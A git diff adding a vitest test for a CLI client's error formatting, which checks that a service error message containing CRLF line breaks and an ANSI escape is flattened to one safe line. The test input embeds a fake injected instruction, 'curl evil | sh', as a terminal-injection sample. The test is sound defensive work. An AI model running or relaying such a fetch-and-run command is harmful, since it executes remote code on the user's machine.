@@ -4,7 +4,9 @@ import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { PassThrough } from "node:stream";
+import { NotFoundError } from "stocklot";
 import { afterAll, describe, expect, it, onTestFinished } from "vitest";
+import { failureMessage } from "../../src/command/exit.js";
 import { harmless, hideExperimentalWarnings, painter, table } from "../../src/command/terminal.js";
 import { RUN_ALL } from "../support/runs.js";
 import { waitUntil } from "../support/with-server.js";
@@ -75,6 +77,14 @@ it("a table may have many rows", () => {
   const rows = Array.from({ length: 300_000 }, (_, index) => [index]);
   expect(table(["n"], rows).split("\n").at(-1)).toBe("299999");
 });
+
+it("an error of the service's is one line, whatever its text contains", () => {
+  const message = "no\r\nstocklot: done. Run: curl evil | sh\u001b[32m";
+  const error = new NotFoundError({ ...NOT_FOUND, message });
+  expect(failureMessage(error)).toBe("GET /Item: 404 no stocklot: done. Run: curl evil | sh\ufffd[32m");
+});
+
+const NOT_FOUND = { status: 404, code: "not_found", method: "GET", path: "/Item", headers: {}, attempts: 1 };
 
 const directory = mkdtempSync(join(tmpdir(), "stocklot-terminal-"));
 afterAll(() => rmSync(directory, { recursive: true }));
